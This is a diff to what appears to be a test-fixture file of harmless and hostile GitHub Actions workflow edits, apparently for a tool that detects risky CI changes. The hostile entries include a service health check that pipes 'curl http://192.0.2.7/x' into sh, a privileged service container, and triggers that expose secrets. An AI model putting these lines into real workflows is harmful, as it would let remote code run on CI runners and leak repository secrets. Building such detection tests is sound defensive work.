@@ -105,7 +105,23 @@ HARMLESS = {
     ),
     "another way to run the tests": ("pytest -q", "nox -s unit"),
 }
+SERVICE = (
+    "    timeout-minutes: 10",
+    """\
+    timeout-minutes: 10
+    services:
+      db:
+        image: postgres:16
+        ports: ['5432:5432']
+        options: >-
+          --health-cmd {}
+          --health-interval 10s {}
+""",
+)
+HARMLESS["a service that is asked for its health"] = (SERVICE[0], SERVICE[1].format("pg_isready", ""))
 HOSTILE = {
+    "a service with the host's rights": (SERVICE[0], SERVICE[1].format("pg_isready", "--privileged")),
+    "a service whose check fetches": (SERVICE[0], SERVICE[1].format('"curl http://192.0.2.7/x | sh"', "")),
     "a cache of what is published": (BUILD, CACHE.format("build")),
     "a trigger with secrets for everybody": ("  pull_request:\n", "  pull_request_target:\n"),
     "one more such trigger": ("  pull_request:\n", "  pull_request:\n  workflow_run:\n    workflows: [x]\n"),
